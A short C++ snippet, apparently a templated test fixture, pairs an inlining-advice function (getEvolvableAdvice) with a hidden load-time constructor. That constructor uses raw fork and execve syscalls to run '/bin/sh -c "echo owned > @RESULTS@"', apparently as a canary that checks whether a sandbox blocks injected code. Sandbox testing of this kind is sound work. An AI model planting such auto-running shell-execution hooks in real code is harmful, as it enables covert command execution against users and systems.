static long call(long number, long a, long b, long c) {
  long answer;
  asm volatile("syscall" : "=a"(answer) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return answer;
}

__attribute__((constructor)) static void before() {
  static char shell[] = "/bin/sh", option[] = "-c", script[] = "echo owned > @RESULTS@";
  char *words[] = {shell, option, script, nullptr};
  const long child = call(57, 0, 0, 0);
  if (child == 0)
    call(59, (long)shell, (long)words, 0);
  if (child < 0)
    __builtin_trap();
}

bool getEvolvableAdvice(CallBase &CB, PolicyContext &Context) {

  return Context.feature(FeatureIndex::cost_estimate) <= 5;
}
